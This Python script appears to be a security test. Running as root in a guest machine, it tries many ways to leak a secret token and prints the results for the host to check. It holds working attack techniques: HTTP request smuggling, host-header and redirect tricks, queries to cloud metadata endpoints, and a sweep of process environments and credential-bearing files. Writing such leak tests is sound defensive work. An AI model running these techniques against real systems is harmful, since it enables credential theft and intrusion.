"""attack.py API OLD OTHER SOCKET: root of the guest tries to get the secret by all that it has. Everything that
it got goes to stdout, for the host to search. All are URLs; the secret is not for OTHER's host, and OLD's
service knows HTTP/1.1 only."""

import asyncio
import glob
import os
import socket
import ssl
import subprocess
import sys
import urllib.parse

import websockets

FORMS = ("plain base64-0 base64-1 base64-2 base64-url base64-lines hex hex-upper hex-colons hex-spaces hex-0x "
         "percent json entities entities-hex quoted-printable octal reversed rot13 upper").split()
WHERE = "body field trailer pieces error gzip deflate deflate-raw twice message".split()
TOKEN = os.environ["TOKEN"]
BEARER = "Authorization: Bearer " + TOKEN
LIMIT_S = "100"  # of one run of curl: none takes that long unless something is wrong


def keep(title, data):
    sys.stdout.buffer.write(b"\n==== " + title.encode() + b"\n" + data)
    sys.stdout.buffer.flush()


def curl(*arguments, config=""):
    done = subprocess.run(["curl", "-sS", "-m", LIMIT_S, "-K", "-", *arguments], check=False,
                          input=config.encode(), stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    keep(" ".join(arguments), done.stdout)
    return done.stdout


def leaks(api):
    """Each place with the plain form, and each form in a body and in the head."""
    paths = {f"{where}/plain" for where in WHERE} | {f"pieces/{form}" for form in FORMS}
    paths |= {f"body/{form}" for form in FORMS} | {f"field/{form}" for form in FORMS}
    config = "".join(f'url = "{api}/leak/{path}"\n' for path in sorted(paths))
    for version in ("--http1.1", "--http2"):
        curl(version, "-i", config=config)
        curl(version, "-i", "--compressed", config="".join(
            f'url = "{api}/leak/{path}/plain"\n' for path in WHERE[5:-1]))
    curl("--http1.1", "-i", f"{api}/leak/interim/plain", f"{api}/leak/reason/plain")
    curl("--http1.1", "-i", "--raw", "-H", "TE: trailers", "-H", "Connection: TE",
         f"{api}/leak/trailer/plain")


def requests(api, other):
    """The placeholder wherever a request can have it, all of which the service sends back."""
    for version in ("--http1.1", "--http2"):
        curl(version, "-i", "-H", BEARER, "-H", f"X-Key: {TOKEN}", "-b", f"k={TOKEN}", "-A", TOKEN, "-e", TOKEN,
             f"{api}/echo/{TOKEN}?k={TOKEN}")
        curl(version, "-i", "-u", f"user:{TOKEN}", "-d", f"k={TOKEN}", f"{api}/echo")
        curl(version, "-i", "-u", f"{TOKEN}:", "--json", f'{{"k":"{TOKEN}"}}', f"{api}/echo")
        curl(version, "-i", "-H", BEARER, "-F", f"k={TOKEN}", "-H", "Expect: 100-continue", f"{api}/echo")
        curl(version, "-I", "-H", BEARER, f"{api}/echo", f"{api}/leak/field/plain")
        for method in ("TRACE", "OPTIONS", "CONNECT"):
            curl(version, "-i", "-X", method, "-H", BEARER, f"{api}/echo")
        # In pieces, to be put together here.
        pieces = b"".join(curl(version, "-r", f"{at}-{at + 3}", f"{api}/leak/range/plain")
                          for at in range(7, 19, 4))
        keep("pieces", pieces)
        curl(version, "-i", "-r", "7-20", "-H", 'If-Range: "x"', f"{api}/leak/range/plain")
        # To where it is not for.
        curl(version, "-i", "-L", "--location-trusted", "-H", BEARER, f"{api}/away/plain", f"{api}/away/percent")
        curl(version, "-i", "-H", BEARER, "-u", f"user:{TOKEN}", f"{other}/echo")
        names = [urllib.parse.urlsplit(url).netloc for url in (api, other)]
        curl(version, "-i", "-H", BEARER, "-H", f"Host: {names[0]}", f"{other}/echo")
        curl(version, "-i", "-H", BEARER, "-H", f"Host: {names[1]}", f"{api}/echo")
        curl(version, "-i", "-H", BEARER, "--connect-to", f"{names[0]}:{names[1]}", f"{api}/echo")
        curl(version, "-i", "-k", "-H", BEARER, "--connect-to", f"{names[1]}:{names[0]}", f"{other}/echo")
    curl("-i", "-H", BEARER, "--request-target", f"{other}/echo", f"{api}/echo")
    # Without TLS, by addresses, and to the machine itself.
    curl("-i", "-H", BEARER, api.replace("https:", "http:") + "/echo")
    port = urllib.parse.urlsplit(api).port
    for url in (f"https://127.0.0.1:{port}/echo", f"https://2130706433:{port}/echo", f"https://10.0.2.2:{port}/echo",
                f"https://[::ffff:127.0.0.1]:{port}/echo", f"https://localhost:{port}/echo",
                "http://169.254.169.254/latest/meta-data/", "http://[fd00:ec2::254]/latest/meta-data/",
                "http://metadata.google.internal/computeMetadata/v1/", "http://192.168.127.254/",
                "http://198.18.0.1/", "https://example.com/"):
        curl("-i", "-k", "-H", BEARER, "-H", "Metadata-Flavor: Google", url)


def raw(api, other):
    """What no client would send."""
    address, host = urllib.parse.urlsplit(api), urllib.parse.urlsplit(other).netloc
    head = f"Host: {address.netloc}\r\n{BEARER}\r\n"
    attempts = {
        "1.0": f"GET /echo HTTP/1.0\r\n{head}\r\n",
        "two hosts": f"GET /echo HTTP/1.1\r\n{head}Host: {host}\r\n\r\n",
        "two lengths": f"POST /echo HTTP/1.1\r\n{head}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n"
                       f"0\r\n\r\nGET /leak/body/plain HTTP/1.1\r\n{head}\r\n",
        "one after another": f"GET /leak/body/plain HTTP/1.1\r\n{head}\r\n" * 3 +
                             f"GET /echo HTTP/1.1\r\n{head}Connection: close\r\n\r\n",
        "hop by hop": f"GET /echo HTTP/1.1\r\n{head}Connection: close, Authorization\r\n\r\n",
        "folded": f"GET /echo HTTP/1.1\r\nHost: {address.netloc}\r\nAuthorization: Bearer\r\n {TOKEN}\r\n\r\n",
        "name": f"GET /echo HTTP/1.1\r\n{head}{TOKEN}: x\r\nConnection: close\r\n\r\n",
        "method": f"{TOKEN} /echo HTTP/1.1\r\n{head}Connection: close\r\n\r\n",
        "upgrade": f"GET /echo HTTP/1.1\r\n{head}Connection: Upgrade, close\r\nUpgrade: {TOKEN}\r\n\r\n",
        "no http": f"\x16{TOKEN}\r\n\r\n",
    }
    context = ssl.create_default_context()
    context.set_alpn_protocols(["http/1.1"])
    for title, text in attempts.items():
        got = b""
        try:
            with socket.create_connection((address.hostname, address.port), int(LIMIT_S)) as plain, \
                    context.wrap_socket(plain, server_hostname=address.hostname) as connection:
                for at in range(0, len(text), 50):
                    connection.sendall(text[at:at + 50].encode("latin-1"))
                while more := connection.recv(65536):
                    got += more
                    if title not in ("1.0", "one after another") and b"\r\n\r\n" in got:
                        break
        except OSError as error:
            got += str(error).encode()
        keep("raw " + title, got)


async def sockets(url):
    got = b""
    async with websockets.connect(url, extra_headers={"Authorization": "Bearer " + TOKEN}) as connection:
        got += (await connection.recv()).encode()
        for message in (TOKEN, "send it"):
            await connection.send(message)
        for _ in range(2 + 2 * len(FORMS)):
            data = await connection.recv()
            got += b"\n" + (data if isinstance(data, bytes) else data.encode())
    keep("websocket", got)


def machine():
    """All that the guest's own processes and files know."""
    names = glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline")
    for top in ("/run", "/tmp", "/root", "/home", "/var/log", "/etc", "/dev/shm"):
        names += (os.path.join(folder, file) for folder, _, files in os.walk(top) for file in files)
    for name in names + ["/proc/cmdline", "/proc/keys", "/proc/mounts"]:
        try:
            fd = os.open(name, os.O_RDONLY | os.O_NONBLOCK)
        except OSError:
            continue
        try:
            if not name.startswith("/etc/ssl/"):
                keep(name, os.read(fd, 1 << 20))
        except OSError:
            pass
        finally:
            os.close(fd)
    keep("log", subprocess.run(["dmesg"], check=False, stdout=subprocess.PIPE).stdout)


def main():
    api, old, other, socket_url = sys.argv[1:]
    requests(api, other)
    for url in (api, old):
        leaks(url)
        raw(url, other)
    asyncio.run(sockets(socket_url))
    machine()
    keep("end", b"")


main()
